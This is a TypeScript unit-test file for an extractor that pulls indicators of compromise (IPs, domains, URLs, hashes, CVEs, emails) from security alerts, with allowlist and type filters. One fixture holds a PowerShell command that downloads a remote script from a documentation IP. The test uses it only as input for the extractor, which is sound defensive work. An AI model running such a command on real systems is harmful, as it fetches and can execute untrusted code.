import assert from 'node:assert/strict';
import { Allowlist, extractFromAlert, type Ioc } from '../../../lib/ioc';

const SHA256 = 'ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb';

function summary(iocs: Ioc[]): string[] {
  return iocs.map((ioc) => `${ioc.type}:${ioc.value}:${ioc.role ?? '-'}:${ioc.source ?? '-'}${ioc.internal ? ':internal' : ''}`);
}

describe('ioc extractFromAlert', () => {
  const alert = {
    title: 'Suspicious download from update-check[.]net',
    description: 'Host fetched hxxp://update-check[.]net/x.bin; see CVE-2024-3400. Source 203.0.113.44 again.',
    source: { ip: '203.0.113.44', port: 51122 },
    destination: { ip: '10.0.0.5' },
    host: { name: 'web-02', ip: ['192.168.1.10', '2001:db8::7'] },
    file: { name: 'invoice.pdf', hash: { sha256: SHA256.toUpperCase() } },
    dns: { question: { name: 'payload.zip' } },
    url: { full: 'https://phish.example.com/login' },
    raw: { full_log: 'sshd: Failed password for root from 198.51.100.9 port 22' },
    observables: [
      { type: 'ip', value: '198.51.100.9', field: 'source.ip' },
      { type: 'domain', value: 'evil-cdn[.]zip', field: 'data.dns.rrname' },
      { type: 'user', value: 'admin', field: 'user.name' },
    ],
  };

  it('reads observables, entity fields and text fields with roles and sources', () => {
    assert.deepEqual(summary(extractFromAlert(alert)), [
      'ipv4:198.51.100.9:source:source.ip',
      'domain:evil-cdn.zip:-:data.dns.rrname',
      'ipv4:203.0.113.44:source:source.ip',
      'ipv4:10.0.0.5:destination:destination.ip:internal',
      'ipv4:192.168.1.10:host:host.ip:internal',
      'ipv6:2001:db8::7:host:host.ip',
      'url:https://phish.example.com/login:url:url.full',
      'domain:phish.example.com:url:url.full',
      'domain:payload.zip:dns:dns.question.name',
      `sha256:${SHA256}:file:file.hash.sha256`,
      'url:http://update-check.net/x.bin:text:description',
      'domain:update-check.net:text:description',
      'cve:CVE-2024-3400:text:description',
    ]);
  });

  it('uses the chosen text fields only', () => {
    const iocs = extractFromAlert({ description: 'evil.com', notes: { body: 'other.org 8.8.8.8' } }, { textFields: ['notes.body'] });
    assert.deepEqual(summary(iocs), ['ipv4:8.8.8.8:text:notes.body', 'domain:other.org:text:notes.body']);
  });

  it('filters by type', () => {
    const iocs = extractFromAlert(alert, { types: ['cve', 'sha256'] });
    assert.deepEqual(
      iocs.map((ioc) => ioc.type),
      ['sha256', 'cve'],
    );
  });

  it('drops allowlisted indicators', () => {
    const allowlist = new Allowlist({ cidrs: ['10.0.0.0/8', '192.168.0.0/16'], domainSuffixes: ['example.com'], values: ['CVE-2024-3400'] });
    const values = extractFromAlert(alert, { allowlist }).map((ioc) => ioc.value);
    for (const dropped of ['10.0.0.5', '192.168.1.10', 'https://phish.example.com/login', 'phish.example.com', 'CVE-2024-3400']) {
      assert.ok(!values.includes(dropped), dropped);
    }
    assert.ok(values.includes('203.0.113.44'));
  });

  it('does not take a plain host name or a file name for a domain', () => {
    const iocs = extractFromAlert({ host: { name: 'dc-01' }, file: { name: 'config.json' }, title: 'x' });
    assert.deepEqual(iocs, []);
  });

  it('copes with missing and odd-shaped fields', () => {
    assert.deepEqual(extractFromAlert({}), []);
    assert.deepEqual(extractFromAlert({ source: 'not an object', host: { ip: [42, null] }, raw: null, description: 17 }), []);
  });

  it('runs unknown observable types through text extraction', () => {
    const iocs = extractFromAlert({
      observables: [{ type: 'process', value: 'powershell -c iwr http://198.51.100.66/a.ps1', field: 'process.command_line' }],
    });
    assert.deepEqual(summary(iocs), ['url:http://198.51.100.66/a.ps1:-:process.command_line', 'ipv4:198.51.100.66:-:process.command_line']);
  });

  it('observables: skips empty and non-string ones, reads type names in any case, trims and drops the root dot of a domain', () => {
    const iocs = extractFromAlert({
      observables: [
        null as never,
        { type: 'ip', value: 42 as never, field: 'a' },
        { type: 'IP', value: '203.0.113.5', field: 7 as never },
        { type: 'fqdn', value: 'evil.com.', field: 'x' },
        { type: 'Hostname', value: ' update.zip ', field: 'y' },
        { type: 'email', value: 'bob@evil.org', field: 'z' },
      ],
    });
    assert.deepEqual(summary(iocs), ['ipv4:203.0.113.5:-:', 'domain:evil.com:-:x', 'domain:update.zip:-:y', 'email:bob@evil.org:-:z', 'domain:evil.org:-:z']);
  });

  it('with wanted types, keeps only those from declared and free-text values alike', () => {
    const observables = [
      { type: 'url', value: 'http://198.51.100.7/a', field: 'u' },
      { type: 'note', value: 'see 203.0.113.9 and evil.net', field: 'n' },
      { type: 'hash', value: 'x 203.0.113.10', field: 'h' },
    ];
    assert.deepEqual(summary(extractFromAlert({ observables }, { types: ['ipv4'] })), ['ipv4:198.51.100.7:-:u', 'ipv4:203.0.113.9:-:n']);
    assert.deepEqual(summary(extractFromAlert({ observables }, { types: ['domain'] })), ['domain:evil.net:-:n']);
  });
});
